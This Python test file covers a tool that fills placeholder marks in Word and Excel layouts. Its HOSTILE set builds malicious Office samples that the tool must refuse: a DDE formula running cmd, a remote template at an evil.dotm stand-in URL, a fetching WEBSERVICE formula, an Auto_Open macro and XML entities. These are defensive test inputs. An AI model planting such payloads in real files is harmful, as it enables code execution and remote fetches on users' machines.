"""Layouts from outside: marks are found where they stand and filled in, the rest stays, and what is hostile is refused."""

import io
import zipfile
from decimal import Decimal

import pytest
import xlsxwriter
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sciweek.core.errors import BadInput
from sciweek.documents.filling import read_layout
from sciweek.documents.filling.marks import filled, spans
from sciweek.documents.filling.opening import UnusableLayout

VALUES = {"A01": 1234, "F01": Decimal("1.50"), "活动周.名称": "某省 活动周 <&>", "空": "", "无": "-"}


def docx(*paragraphs, table=()):
    document = Document()
    for runs in paragraphs:
        paragraph = document.add_paragraph()
        for run in [runs] if isinstance(runs, str) else runs:
            paragraph.add_run(run)
    if table:
        made = document.add_table(rows=len(table), cols=len(table[0]))
        for row, texts in zip(made.rows, table, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    document.sections[0].header.paragraphs[0].text = "{{活动周.名称}}"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(cells, formulas=()):
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"strings_to_formulas": False}) as book:
        page = book.add_worksheet("汇总表")
        bold = book.add_format({"bold": True, "num_format": "#,##0"})
        for place, text in cells.items():
            page.write_string(place, text, bold)
        for place, text in dict(formulas).items():
            page.write_formula(place, text, bold, 0)
        page.set_header("&L{{活动周.名称}}")
    return out.getvalue()


def changed(data, part, old, new):
    """The file with something in one part replaced, or a part added where there is none of that name."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w") as after:
        for name in before.namelist():
            content = before.read(name)
            after.writestr(name, content.replace(old, new) if name == part else content)
        if part not in before.namelist():
            after.writestr(part, new)
    return out.getvalue()


def marks(data, name="x"):
    return [(each.mark, each.place) for each in read_layout(data, name).marks if each.place != "页眉"]


def texts(data):
    document = Document(io.BytesIO(data))
    return [each.text for each in document.paragraphs], [
        [cell.text for cell in row.cells] for table in document.tables for row in table.rows
    ]


def test_marks_are_told_by_place():
    data = docx("甲 {{A01}} 乙", table=[["指标", "本年"], ["活动", "{{ A01.本年 }}"]])
    assert marks(data) == [("A01", "第 1 段"), ("A01.本年", "第 1 个表格第 2 行第 2 列")]
    assert marks(xlsx({"B3": "{{A01}}", "C4": "共｛｛F01｝｝万元"}))[:2] == [
        ("A01", "工作表“汇总表”B3"),
        ("F01", "工作表“汇总表”C4"),
    ]


def test_a_document_is_filled_and_a_mark_split_over_runs_is_found():
    data = docx(
        ["共 {", "{A0", "1}", "} 次，", "{{F01}}万元"], table=[["{{空}}", "{{无}}"], ["{{X99}}", "{{A01}}{{A01}}"]]
    )
    made = read_layout(data, "x").filled(VALUES.get)
    paragraphs, cells = texts(made)
    assert paragraphs == ["共 1,234 次，1.50万元"]
    assert cells == [["", "-"], ["{{X99}}", "1,2341,234"]]
    assert Document(io.BytesIO(made)).sections[0].header.paragraphs[0].text == "某省 活动周 <&>"


def test_the_look_of_a_documents_mark_stays():
    document = Document(io.BytesIO(docx("{{A01}}")))
    document.paragraphs[0].runs[0].bold = True
    out = io.BytesIO()
    document.save(out)
    made = Document(io.BytesIO(read_layout(out.getvalue(), "x").filled(VALUES.get)))
    assert (made.paragraphs[0].runs[0].text, made.paragraphs[0].runs[0].bold) == ("1,234", True)


def test_a_cell_that_is_one_mark_becomes_a_number_and_formulas_are_computed_anew():
    cells = {
        "A1": "{{A01}}",
        "A2": "{{F01}}",
        "A3": "共 {{A01}} 次",
        "A4": "{{空}}",
        "A5": "{{无}}",
        "A6": "{{X99}}",
        "A7": "不动",
    }
    made = read_layout(xlsx(cells, {"B1": "=SUM(A1:A2)"}), "x").filled(VALUES.get)
    page = load_workbook(io.BytesIO(made))["汇总表"]
    assert [page[f"A{row}"].value for row in range(1, 8)] == [1234, 1.5, "共 1,234 次", None, "-", "{{X99}}", "不动"]
    assert page["A1"].font.bold
    assert page["B1"].value == "=SUM(A1:A2)"
    assert page.oddHeader.left.text == "某省 活动周 <&&>"
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert b'fullCalcOnLoad="1"' in archive.read("xl/workbook.xml")


def test_text_in_place_of_a_mark_is_never_a_formula():
    made = read_layout(xlsx({"A1": "{{A01}}", "A2": "共{{A01}}"}), "x").filled(lambda _mark: '=HYPERLINK("x")')
    page = load_workbook(io.BytesIO(made))["汇总表"]
    assert [page[place].data_type for place in ("A1", "A2")] == ["s", "s"]


def test_the_same_layout_gives_the_same_bytes():
    layout = read_layout(docx("{{A01}}"), "x")
    assert layout.filled(VALUES.get) == layout.filled(VALUES.get)


def test_marks_in_drawings_are_told_and_not_reached():
    data = changed(xlsx({"A1": "{{A01}}"}), "xl/drawings/drawing1.xml", b"", b"<d><t>{{A02}}</t></d>")
    assert [(each.mark, each.reached) for each in read_layout(data, "x").marks][-1] == ("A02", False)


WORKBOOK, DOCUMENT = xlsx({"A1": "{{A01}}"}), docx("{{A01}}")
EXTERNAL = b'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://x/evil.dotm" TargetMode="External"/></Relationships>'
HOSTILE = {
    "no archive": b"PK\x03\x04 nonsense",
    "macros": changed(DOCUMENT, "word/vbaProject.bin", b"", b"x"),
    "embedded object": changed(DOCUMENT, "word/embeddings/oleObject1.bin", b"", b"x"),
    "external data": changed(WORKBOOK, "xl/externalLinks/externalLink1.xml", b"", b"<a/>"),
    "connections": changed(WORKBOOK, "xl/connections.xml", b"", b"<a/>"),
    "remote template": changed(DOCUMENT, "word/_rels/document.xml.rels", b"</Relationships>", EXTERNAL),
    "entities": changed(DOCUMENT, "word/document.xml", b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
    "no xml": changed(DOCUMENT, "word/document.xml", b"<w:body>", b"<w:body><"),
    "field that fetches": changed(
        DOCUMENT,
        "word/document.xml",
        b"<w:body>",
        b"<w:body><w:p><w:r><w:instrText>INCLUDEPICTURE x</w:instrText></w:r></w:p>",
    ),
    "formula that fetches": xlsx({"A1": "{{A01}}"}, {"B1": '=WEBSERVICE("http://x")'}),
    "command by formula": xlsx({"A1": "{{A01}}"}, {"B1": "=cmd|'/c calc'!A0"}),
    "macro that runs by itself": changed(
        WORKBOOK,
        "xl/workbook.xml",
        b"<calcPr",
        b'<definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames><calcPr',
    ),
    "secret": docx("{{A01}} 机密★10年"),
    "another archive": changed(b"PK\x05\x06" + b"\0" * 18, "a.txt", b"", b"{{A01}}"),
}


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: name)
def test_what_is_hostile_or_useless_is_refused_in_one_sentence(name):
    with pytest.raises(BadInput) as refused:
        read_layout(HOSTILE[name], "版式.docx")
    assert refused.value.sentence.endswith("。")


def test_a_layout_without_marks_says_how_to_write_one():
    plain = changed(DOCUMENT, "word/header1.xml", "{{活动周.名称}}".encode(), "活动周".encode())
    with pytest.raises(UnusableLayout, match=r"\{\{A01\}\}"):
        read_layout(changed(plain, "word/document.xml", b"{{A01}}", b"A01"), "x")


def test_a_hyperlink_is_no_danger():
    link = EXTERNAL.replace(b"attachedTemplate", b"hyperlink")
    assert marks(changed(DOCUMENT, "word/_rels/document.xml.rels", b"</Relationships>", link))


def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(DOCUMENT)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", b"<a/>")
    with pytest.raises(UnusableLayout, match="重名"):
        read_layout(out.getvalue(), "x")


@settings(max_examples=150)
@given(st.text(st.sampled_from("{}｛｝A01.@甲 \n"), max_size=40))
def test_a_text_without_known_marks_stays_as_it_is(text):
    assert filled(text, lambda _mark: None) == text
    assert "".join(text[span.start : span.end] for span in spans(text)).count("{") % 2 == 0


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(st.sampled_from("甲{}A01 "), max_size=6), min_size=1, max_size=6))
def test_runs_are_filled_as_their_text_is(runs):
    data = docx([*runs, "{{A01}}"])
    expected = filled("".join([*runs, "{{A01}}"]), VALUES.get)
    assert texts(read_layout(data, "x").filled(VALUES.get))[0] == [expected]
